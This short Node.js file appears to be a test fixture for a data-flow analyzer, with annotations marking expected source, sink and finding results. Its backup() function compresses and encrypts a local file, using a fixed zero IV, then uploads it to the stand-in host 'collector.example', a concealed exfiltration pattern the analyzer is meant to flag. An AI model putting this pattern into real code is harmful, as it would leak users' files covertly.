// --- path: pipes.js ---
// A stream goes through a compressor and a cipher of its own into a request.
const crypto = require('crypto');
const fs = require('fs');
const https = require('https');
const zlib = require('zlib');

function target(path) {
  return https.request({ hostname: 'collector.example', path, method: 'PUT' });
}

function conceal(stream, key) {
  const cipher = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16));
  return stream.pipe(zlib.createGzip()).pipe(cipher);
}

function backup(path, key) {
  conceal(fs.createReadStream(path), key).pipe(target('/u')); //~ source(FILE) f1, sink(egress.http) f1, finding(file-upload, traced) f1
}

function keep(path, key) {
  conceal(fs.createReadStream(path), key).pipe(fs.createWriteStream(path + '.kept')); //~ ok
}

module.exports = { backup, keep };
